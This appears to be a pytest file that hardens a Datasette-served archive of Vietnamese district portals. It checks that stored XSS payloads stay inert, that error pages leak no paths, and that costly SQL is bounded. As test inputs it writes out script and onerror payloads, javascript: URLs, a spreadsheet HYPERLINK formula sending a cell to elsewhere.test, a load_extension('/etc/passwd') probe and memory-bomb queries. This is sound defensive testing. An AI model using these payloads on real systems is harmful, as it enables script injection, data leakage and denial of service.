"""Hostile pages served safely: an article carrying <script>, onerror= and javascript: links is
kept raw in the archive but is inert everywhere Datasette renders it, and error pages name no
file on the server.

"Inert" is checked on the parsed HTML, not by string search (Datasette's own pages carry their
own scripts): no <script> holding the payload, no on* attribute, no javascript: URL in href,
src, action or style.
"""
from __future__ import annotations

import csv
import hashlib
import io
import json
import sqlite3
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path
from urllib.parse import urlencode

import lxml.html
import pytest
from datasette.app import Datasette
from datasette.utils import tilde_encode

from district_archive import METADATA, ROOT
from district_archive.cli.serving import datasette_command
from district_archive.portals.faults import HOSTILE_EXTRA, article_html
from district_archive.portals.loopback import base_url, free_port, wait_for_http
from pipelines.analyse import analyse_page
from pipelines.store import Archive
from tests.test_datasette_queries import make_datasette

URL = "https://kienthuy.haiphong.gov.vn/tin-tuc-su-kien/bai-doc-hai-897001"
# A title that *says* <script> (escaped in the page): stored as text, shown as text.
TITLE_TEXT = "nhiệm vụ số 7 &lt;script&gt;alert('title')&lt;/script&gt;"
PAYLOAD_MARKERS = ("alert(", "document.cookie")
# What an older extractor (or a hand edit) might have left in body_html: the article page must
# sanitise it again, the table pages must show it as text.
OLD_BODY_HTML = ('<p>Nội dung <img src="x" onerror="alert(10)"></p><script>alert(11)</script>'
                 '<a href="javascript:alert(12)">xem</a><a href=" JaVaScRiPt:alert(13)">tải</a>'
                 '<svg onload="alert(14)"></svg><form action="javascript:alert(15)"></form>')


def live_payloads(page: str) -> list[str]:
    """Places where the hostile markup would run in a browser."""
    if not page.strip():
        return []
    root = lxml.html.document_fromstring(page)
    found = []
    for script in root.iter("script"):
        if any(m in (script.text or "") for m in PAYLOAD_MARKERS):
            found.append(f"<script>{(script.text or '')[:60]}")
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        for name, value in element.attrib.items():
            compact = "".join(value.split()).lower()
            scripted = ("javascript:" in compact if name.lower() == "style"
                        else compact.startswith(("javascript:", "vbscript:", "data:text/html")))
            if name.lower().startswith("on") or scripted:
                found.append(f"<{element.tag} {name}={value[:40]!r}>")
    return found


@pytest.fixture(scope="module")
def hostile_archive(tmp_path_factory):
    """An archive holding one hostile article the way the crawl pipelines store it, plus
    hostile values in the columns an older extractor could have filled."""
    db_path = tmp_path_factory.mktemp("hostile") / "archive.db"
    raw = article_html(7, extra=HOSTILE_EXTRA).replace("nhiệm vụ số 7", TITLE_TEXT).encode()
    archive = Archive(db_path)
    archive.upsert_site({"id": "kienthuy", "name": "Kiến Thụy", "family": "haiphong-2024",
                         "base_url": "https://kienthuy.haiphong.gov.vn"})
    run = archive.start_run("kienthuy", "full")
    page_id = archive.store_page(run, {
        "url": URL, "site": "kienthuy", "page_type": "article", "status": 200,
        "headers": {"Content-Type": ["text/html; charset=utf-8"]}, "body": raw,
        "fetched_at": "2024-03-12T01:00:00Z", "link_text": "<script>alert(20)</script>"})
    analysis = analyse_page(raw, URL, site="kienthuy", family="haiphong-2024")
    archive.store_article(page_id, analysis.article, seen_at="2024-03-12T01:00:00Z")
    archive.mark_derived(page_id, "ok", "new")
    archive.db["articles"].update(URL, {"body_html": OLD_BODY_HTML})
    archive.db["attachments"].insert({"article_url": URL, "url": "javascript:alert(16)",
                                      "name": '<img src=x onerror="alert(17)">',
                                      "fetched_url": "javascript:alert(16)"})
    archive.db["images"].insert({"article_url": URL, "src": "javascript:alert(18)",
                                 "caption": "<script>alert(19)</script>"})
    archive.finish_run(run, finish_reason="finished")
    sha256 = archive.db["pages"].get(page_id)["sha256"]
    archive.close()
    return {"db": db_path, "raw": raw, "sha256": sha256}


@pytest.fixture
def datasette(hostile_archive):
    metadata = json.loads(METADATA.read_text(encoding="utf-8"))
    return Datasette([str(hostile_archive["db"])], immutables=[], metadata=metadata,
                     settings={"sql_time_limit_ms": 3000})


def test_the_inertness_check_sees_live_payloads():
    page = f"<html><body>{OLD_BODY_HTML}<p style='x:url(javascript:alert(1))'></p></body></html>"
    assert len(live_payloads(page)) == 7
    assert live_payloads("<a href='https://x.test/javascript:alert(1)'>x</a>") == []


def test_the_raw_page_keeps_every_hostile_byte(hostile_archive):
    archive = Archive(hostile_archive["db"])
    assert archive.raw_body(hostile_archive["sha256"]) == hostile_archive["raw"]
    archive.close()
    for marker in (b"<script>", b"onerror=", b"javascript:", b"JaVaScRiPt:"):
        assert marker in hostile_archive["raw"]


@pytest.mark.asyncio
async def test_every_table_page_shows_hostile_values_as_text(datasette, hostile_archive):
    db = datasette.get_database("archive")
    tables = [t for t in await db.table_names()
              if not t.startswith(("articles_fts", "articles_search"))]
    assert {"articles", "pages", "attachments", "images", "article_versions"} <= set(tables)
    for table in tables:
        response = await datasette.client.get(f"/archive/{table}")
        assert response.status_code == 200, table
        assert live_payloads(response.text) == [], table
    page = (await datasette.client.get("/archive/articles")).text
    assert "&lt;script&gt;alert(&#39;title&#39;)&lt;/script&gt;" in page  # shown, as text


@pytest.mark.asyncio
async def test_row_search_and_canned_query_pages_are_inert(datasette):
    paths = [f"/archive/articles/{tilde_encode(URL)}", "/archive/articles?_search=alert",
             "/archive/articles?_search=kien+thuy", "/archive/pages?_facet=page_type"]
    metadata = json.loads(METADATA.read_text(encoding="utf-8"))
    for name, query in metadata["databases"]["archive"].get("queries", {}).items():
        params = dict.fromkeys(query.get("params", []), "")
        params.update({k: v for k, v in {"q": "alert", "url": URL, "site": "kienthuy"}.items()
                       if k in params})
        paths.append(f"/archive/{name}?" + "&".join(f"{k}={v}" for k, v in params.items()))
    for path in paths:
        response = await datasette.client.get(path)
        assert response.status_code == 200, (path, response.status_code)
        assert live_payloads(response.text) == [], path


@pytest.mark.asyncio
async def test_the_article_page_resanitises_the_body_and_forbids_scripts(datasette):
    response = await datasette.client.get("/archive/-/article", params={"url": URL})
    assert response.status_code == 200
    assert live_payloads(response.text) == []
    directives = dict(d.strip().partition(" ")[::2]
                      for d in response.headers["content-security-policy"].split(";"))
    script_src = directives.get("script-src", directives.get("default-src", "*"))
    # Only named scripts (a hash or none) may run: never inline markup, never any host.
    assert "'unsafe-inline'" not in script_src and "*" not in script_src.split()
    assert "http:" not in script_src and "https:" not in script_src
    assert "Nội dung" in response.text  # the text of the body survives the sanitiser


@pytest.mark.asyncio
async def test_json_and_the_raw_copy_are_never_html(datasette, hostile_archive):
    response = await datasette.client.get("/archive/articles.json?_shape=array")
    assert response.headers["content-type"].startswith("application/json")
    assert response.headers.get("x-content-type-options") == "nosniff"
    assert any("<script>" in (row["title"] or "") for row in response.json())  # data, verbatim
    raw = await datasette.client.get(f"/archive/-/raw/{hostile_archive['sha256']}")
    assert raw.status_code == 200
    assert raw.headers["content-type"].startswith("text/plain")
    assert "sandbox" in raw.headers["content-security-policy"]
    assert raw.headers.get("x-content-type-options") == "nosniff"
    assert raw.content == hostile_archive["raw"]


ERROR_PATHS = ["/archive/no_such_table", "/archive.json?sql=select+*+from+no_such_table",
               "/archive?sql=select+load_extension('/etc/passwd')",
               "/archive/-/article?url=https://nowhere.test/", "/archive/-/raw/" + "0" * 64,
               "/archive/articles/no-such-row", "/no-such-database", "/archive/-/article",
               "/archive.json?sql=delete+from+articles", "/archive.json?sql=select+1+from"]


@pytest.mark.asyncio
async def test_error_pages_name_no_file_or_secret(datasette, hostile_archive):
    folder = str(hostile_archive["db"].parent)
    for path in ERROR_PATHS:
        response = await datasette.client.get(path)
        assert response.status_code >= 400, path
        for leak in (folder, str(ROOT), "Traceback", 'File "'):
            assert leak not in response.text, (path, leak)


@pytest.mark.asyncio
async def test_no_page_names_the_archive_file_on_the_server(datasette, hostile_archive):
    folder = str(hostile_archive["db"].parent)
    for path in ["/-/databases.json", "/archive.json?sql=select+file+from+pragma_database_list()"]:
        assert folder not in (await datasette.client.get(path)).text, path


def test_serve_is_read_only_time_limited_and_leaks_nothing(hostile_archive):
    """The real `district-archive serve` command line: immutable, SQL cut off at 3 s."""
    port = free_port()
    process = subprocess.Popen(datasette_command(str(hostile_archive["db"]), port),
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    base = base_url(port)

    def get(path: str) -> tuple[int, str, float]:
        started = time.monotonic()
        try:
            with urllib.request.urlopen(base + path, timeout=20) as response:
                return response.status, response.read().decode(), time.monotonic() - started
        except urllib.error.HTTPError as error:
            return error.code, error.read().decode(), time.monotonic() - started

    try:
        wait_for_http(base + "/-/databases.json", process=process)
        endless = ("/archive.json?sql=with+recursive+c(x)+as+(select+1+union+all+select+x%2B1"
                   "+from+c)+select+count(*)+from+c")
        status, body, seconds = get(endless)
        assert status >= 400 and seconds < 10, (status, seconds)
        assert "interrupted" in body.lower() or "time limit" in body.lower(), body[:300]
        status, body, _ = get("/archive.json?sql=update+articles+set+title%3D'x'")
        assert status >= 400
        folder = str(hostile_archive["db"].parent)
        for path in ERROR_PATHS:
            status, body, _ = get(path)
            assert status >= 400, path
            assert folder not in body and str(ROOT) not in body and "Traceback" not in body, path
        status, body, _ = get("/archive/-/article?url=" + urllib.parse.quote(URL, safe=""))
        assert status == 200 and live_payloads(body) == []
    finally:
        process.terminate()
        process.wait(10)


# -- no anonymous GET can hold the server (issue 13, case 8) ----------------------------------

FORMULA_TITLE = '=HYPERLINK("http://elsewhere.test/?"&A1,"xem")'
BIG_BODY = 6 << 20  # one archived response of 6 MiB


@pytest.fixture(scope="module")
def bulky_archive(tmp_path_factory):
    """An archive with a thousand 8 kB articles, one titled like a spreadsheet formula, and one
    6 MiB raw body."""
    db_path = tmp_path_factory.mktemp("bulky") / "archive.db"
    archive = Archive(db_path)
    archive.upsert_site({"id": "s", "name": "Xã Thử", "family": "generic",
                         "base_url": "http://portal.test"})
    run = archive.start_run("s", "full")
    big = bytes(range(256)) * (BIG_BODY // 256)
    archive.store_page(run, {"url": "http://portal.test/tai-lieu.pdf", "site": "s",
                             "status": 200, "headers": {}, "body": big})
    text = "Nội dung bài viết về hộ nghèo và kinh tế địa phương. " * 150
    archive.db.conn.executemany(
        "insert into articles (url, site, title, body_text, body_html, title_folded, "
        "body_folded, status) values (?, 's', ?, ?, ?, ?, ?, 'live')",
        ((f"http://portal.test/bai-viet/{i}", FORMULA_TITLE if i == 0 else f"Bài {i}",
          text, f"<p>{text}</p>", f"bai {i}", text.lower()) for i in range(1000)))
    archive.db.conn.commit()
    archive.finish_run(run, finish_reason="finished")
    archive.close()
    return {"db": db_path, "big": big, "sha256": hashlib.sha256(big).hexdigest()}


@pytest.fixture
def served(bulky_archive):
    """The archive in Datasette as `district-archive serve` configures it, with a 1 s time
    limit so the tests that reach it are quick."""
    return make_datasette(bulky_archive["db"], sql_time_limit_ms=1000)


def sql_path(sql: str, fmt: str = ".json") -> str:
    return f"/archive{fmt}?" + urlencode({"sql": sql})


async def timed_get(ds, path: str) -> tuple[int, str, float]:
    started = time.monotonic()
    response = await ds.client.get(path)
    return response.status_code, response.text, time.monotonic() - started


@pytest.mark.asyncio
async def test_python_sql_functions_are_bounded_in_input_and_time(served):
    # Quadratic before: two minutes for 40 000 matches. Now linear, and NULL past 1 M chars.
    status, body, seconds = await timed_get(served, sql_path(
        "select length(vn_snippet(replace(printf('%.*c', 400000, 'x'), 'x', 'a '), 'a')) as n"))
    assert status == 200 and seconds < 2, (status, seconds)
    assert 240 <= json.loads(body)["rows"][0][0] < 2000  # a window, not the text
    status, body, _ = await timed_get(served, sql_path(
        "select vn_fold(printf('%.*c', 1000001, 'x')) as n"))
    assert status == 200 and json.loads(body)["rows"] == [[None]]
    # A Python function on every row: the statement's time limit holds (it was checked only
    # every 1 000 SQLite instructions: 9.5 s for a 3 s limit).
    status, body, seconds = await timed_get(served, sql_path(
        "select vn_snippet(replace(printf('%.*c', 450000, 'x'), 'x', 'a ') || url, 'a') "
        "from articles"))
    assert status == 400 and seconds < 1 + 1.5, (status, seconds)
    assert "interrupted" in body.lower() or "too long" in body.lower(), body[:300]


@pytest.mark.asyncio
async def test_no_markdown_rendering_of_columns(served):
    status, body, seconds = await timed_get(served, "/archive?" + urlencode({"sql": (
        "select '# Tiêu đề' as a_markdown, replace(printf('%.*c', 200000, 'x'), 'x', "
        "'* a\n') as b_markdown")}))
    assert status == 200 and seconds < 2, seconds
    assert "<h1>Tiêu đề</h1>" not in body and "# Tiêu đề" in body


@pytest.mark.parametrize("sql,expected", [
    ("select hex(fts3_tokenizer('simple'))", "not authorized"),
    ("select length(zeroblob(100000000))", "not authorized"),
    ("select length(replace(hex(zeroblob(100000000)), '0', 'aaaa'))", "not authorized"),
    ("select hex(randomblob(100000000))", "not authorized"),
])
@pytest.mark.asyncio
async def test_functions_that_leak_or_build_from_nothing_are_refused(served, sql, expected):
    status, body, seconds = await timed_get(served, sql_path(sql))
    assert status == 400 and expected in body and seconds < 1, (status, body[:200])


@pytest.mark.asyncio
async def test_values_and_results_are_bounded(served):
    # A value past SQLITE_LIMIT_LENGTH (1 MiB): NULL or "too big", at once.
    status, body, seconds = await timed_get(served, sql_path(
        "select length(replace(printf('%.*c', 1000000, 'x'), 'x', 'aaaa')) as n"))
    assert seconds < 1 and ((status == 400 and "too big" in body)
                            or json.loads(body)["rows"] == [[None]]), body[:300]
    # 100 MB of result: refused as rows are read, not built then sent.
    status, body, _ = await timed_get(served, sql_path(
        "select printf('%.*c', 1000000, 'x') as v from articles limit 100"))
    assert status == 400 and "returns more than 64 MiB" in body, body[:300]
    # Every article, long text and all, still fits (8 MB).
    status, body, _ = await timed_get(served, "/archive/articles.json?_size=max")
    assert status == 200 and len(json.loads(body)["rows"]) == 1000


@pytest.mark.asyncio
async def test_raw_bodies_are_never_served_inline(served, bulky_archive):
    status, body, _ = await timed_get(served, "/archive/blobs.json?_size=max")
    assert status == 200 and len(body) < 10_000
    rows = json.loads(body)["rows"]
    assert rows and all(row[-1] is None for row in rows)  # data: NULL for a visitor
    status, body, _ = await timed_get(served, sql_path("select length(data) as n from blobs"))
    assert json.loads(body)["rows"] == [[None]] * len(rows)
    page = (await served.client.get("/archive/blobs")).text
    assert f'href="/archive/-/raw/{bulky_archive["sha256"]}">raw copy (6,291,456 bytes)' in page
    raw = await served.client.get(f"/archive/-/raw/{bulky_archive['sha256']}")
    assert raw.status_code == 200 and raw.content == bulky_archive["big"]  # one at a time


@pytest.mark.parametrize("query,status", [
    ("_facet=body_text", 400), ("_facet=title_folded", 400), ("_facet_array=body_html", 400),
    ("&".join(["_facet=site"] * 6), 400), ("_facet=site&_facet=status", 200)])
@pytest.mark.asyncio
async def test_facets_on_long_text_are_refused(served, query, status):
    got, body, seconds = await timed_get(served, f"/archive/articles?{query}")
    assert got == status and seconds < 2, (query, got, body[:200])
    if status == 400:
        assert "facets" in body


@pytest.mark.parametrize("page", ["threads", "versions", "plugins", "settings", "config", "actor",
                                  "allow-debug", "permissions", "messages", "patterns"])
@pytest.mark.asyncio
async def test_introspection_pages_are_closed(served, page):
    for suffix in ("", ".json"):
        response = await served.client.get(f"/-/{page}{suffix}")
        assert response.status_code == 404, (page, suffix, response.status_code)


@pytest.mark.asyncio
async def test_metadata_and_database_list_stay_open(served):
    assert (await served.client.get("/-/metadata.json")).status_code == 200
    assert (await served.client.get("/-/databases.json")).status_code == 200


@pytest.mark.asyncio
async def test_csv_cells_a_spreadsheet_would_run_are_neutralised(served):
    for path in ["/archive/articles.csv?_col=title&_size=5",
                 "/archive/articles.csv?_col=title&_stream=on",
                 "/archive.csv?" + urlencode({"sql": "select title, -5 as n, '-x' as t "
                                                     "from articles limit 3"})]:
        response = await served.client.get(path)
        assert response.status_code == 200, path
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert rows[0]["title"] == "'" + FORMULA_TITLE, path
        assert all(not r["title"].startswith(("=", "+", "-", "@")) for r in rows)
        if "n" in rows[0]:
            assert (rows[0]["n"], rows[0]["t"]) == ("-5", "'-x")
    data = (await served.client.get("/archive/articles.json?_shape=array&_size=1")).json()
    assert data[0]["title"] == FORMULA_TITLE  # JSON keeps the text verbatim


def _peak_rss_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    return 0.0


def test_a_plain_page_answers_while_hostile_queries_run(bulky_archive):
    """The real `district-archive serve`: three hostile queries from the issue are kept running
    (each sent again as soon as it is answered) while a plain page is fetched every 0.1 s for
    6 s: every plain page answers in under a second; each hostile query ends within the time
    limit; the server's memory stays bounded."""
    port = free_port()
    process = subprocess.Popen([sys.executable, "-m", "district_archive.cli", "serve", "--db",
                                str(bulky_archive["db"]), "--port", str(port)], cwd=ROOT,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    base = base_url(port)
    hostile = [
        # A Python function over a large generated text on every row (ran for minutes).
        sql_path("select vn_snippet(replace(printf('%.*c', 450000, 'x'), 'x', 'a ') || url, "
                 "'a') from articles"),
        # A huge _markdown column (rendered for 26 s on the event loop).
        "/archive?" + urlencode({"sql": "select replace(printf('%.*c', 250000, 'x'), 'x', "
                                        "'* a\n') as x_markdown from articles limit 20"}),
        # A hundred facets on the article text (39 s), then a memory bomb (17 s, 3.5 GB).
        "/archive/articles?" + "&".join(["_facet=body_text"] * 100),
        sql_path("select length(replace(hex(zeroblob(100000000)), '0', 'aaaa'))"),
        # Results as large as allowed, and raw bodies (2.1 GB).
        sql_path("select printf('%.*c', 1000000, 'x') as v from articles limit 100"),
        "/archive/blobs.json?_size=max",
    ]

    def get(path: str) -> tuple[int, float]:
        started = time.monotonic()
        try:
            with urllib.request.urlopen(base + path, timeout=30) as response:
                response.read()
                status = response.status
        except urllib.error.HTTPError as error:
            error.read()
            status = error.code
        return status, time.monotonic() - started

    stop = threading.Event()
    answered: dict[str, list[tuple[int, float]]] = {path: [] for path in hostile}

    def keep_asking(paths: list[str]) -> None:
        while not stop.is_set():
            for path in paths:
                answered[path].append(get(path))

    try:
        wait_for_http(base + "/-/databases.json", process=process)
        attackers = [threading.Thread(target=keep_asking, args=(hostile[i::3],))
                     for i in range(3)]
        for attacker in attackers:
            attacker.start()
        time.sleep(0.5)
        plain = []
        deadline = time.monotonic() + 6
        while time.monotonic() < deadline:
            plain.append(get("/archive/sites"))
            time.sleep(0.1)
        stop.set()
        for attacker in attackers:
            attacker.join(60)
        peak = _peak_rss_mib(process.pid)
    finally:
        process.terminate()
        process.wait(10)
    slowest = max(seconds for _, seconds in plain)
    print(f"\nplain pages: {len(plain)}, slowest {slowest:.2f} s; hostile answers: "
          + ", ".join(f"{len(a)} (slowest {max(s for _, s in a):.2f} s)"
                      for a in answered.values() if a)
          + f"; server peak RSS {peak:.0f} MiB")
    assert {status for status, _ in plain} == {200}
    assert len(plain) >= 10 and slowest < 1.0, plain
    for path, answers in answered.items():
        assert answers, path
        assert max(seconds for _, seconds in answers) < 3 + 2, (path, answers)
    assert peak < 1024, peak


@pytest.mark.parametrize("sql", [
    "select instr(printf('%.*c', 1000000, 'a'), printf('%.*c', 500000, 'a') || 'b')",  # 6.5 s
    ("select length(replace(printf('%.*c', 1000000, 'a'), printf('%.*c', 500000, 'a') || 'b', "
     "'x'))"),  # 8.2 s
    "select length(trim(printf('%.*c', 1000000, 'a'), printf('%.*c', 50000, 'b') || 'a'))",
    "select printf('%.*c', 1000000, 'a') glob '*[' || printf('%.*c', 40000, 'b') || ']'",  # 149 s
])
@pytest.mark.asyncio
async def test_quadratic_builtins_run_in_linear_time_or_are_refused(served, sql):
    """One SQLite instruction the time limit cannot interrupt: text x pattern before."""
    _, _, seconds = await timed_get(served, sql_path(sql))
    assert seconds < 1, seconds


def test_linear_builtins_answer_as_sqlite_does():
    from district_archive.serving.limits import limit_connection

    ours, sqlites = sqlite3.connect(":memory:"), sqlite3.connect(":memory:")
    limit_connection(ours)
    for sql in [
        ("select instr('Kiến Thụy', 'Thụy'), instr('abc', ''), instr(null, 'a'), "
         "instr(12345, 34), instr(x'0102', x'02'), instr('abc', 'z')"),
        ("select replace('aXbXc', 'X', '--'), replace('abc', '', 'z'), replace(null, 'a', 'b'), "
         "replace(123, 2, 9), replace('Đạt Đạt', 'Đạt', 'dat'), replace('abc', 'b', null)"),
        ("select trim('xxhixx', 'x'), ltrim('xxhixx', 'x'), rtrim('xxhixx', 'x'), trim('  hi '), "
         "trim('abc', ''), trim('[]a]]', ']['), trim('ờơhiơờ', 'ơờ'), trim(null, 'x'), "
         "rtrim('a.-^', '^.-')"),
    ]:
        assert tuple(ours.execute(sql).fetchone()) == tuple(sqlites.execute(sql).fetchone()), sql
